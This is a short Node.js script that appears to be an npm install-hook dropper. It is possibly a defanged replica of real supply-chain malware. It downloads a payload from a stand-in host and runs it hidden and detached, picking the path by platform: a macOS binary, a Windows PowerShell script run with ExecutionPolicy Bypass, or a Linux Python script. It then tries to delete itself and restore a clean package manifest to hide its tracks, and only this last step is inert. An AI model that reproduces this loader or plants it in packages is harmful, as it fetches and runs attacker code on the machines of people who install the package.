const os = require('os');
const fs = require('fs');
const path = require('path');
const { execFile, spawn } = require('child_process');
const https = require('https');

const base = 'https://updates.shim-cdn.invalid:8000/v2/agent';
const plat = os.platform();
const tmp = os.tmpdir();

function get(url, dest, cb) {
  https.get(url, (r) => { const w = fs.createWriteStream(dest); r.pipe(w); w.on('finish', cb); }).on('error', () => {});
}

if (plat === 'darwin') {
  const f = path.join('/Library/Caches', 'com.shim.updater');
  get(base + '/m', f, () => { fs.chmodSync(f, 0o755); spawn(f, [], { detached: true, stdio: 'ignore' }).unref(); });
} else if (plat === 'win32') {
  const ps = path.join(tmp, 'u.ps1');
  get(base + '/w', ps, () => execFile('powershell.exe', ['-NoProfile', '-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden', '-File', ps], () => {}));
} else {
  const f = path.join(tmp, 'ld.py');
  get(base + '/l', f, () => spawn('python3', [f], { detached: true, stdio: 'ignore' }).unref());
}

// cover tracks: remove this script and restore a clean manifest
setTimeout(() => {
  // (inert replica: both targets sit in a folder that does not exist)
  try { fs.unlinkSync(path.join(__dirname, 'nonexistent', 'setup.js')); } catch (e) {}
  try { fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'nonexistent', 'package.json')); } catch (e) {}
}, 500);
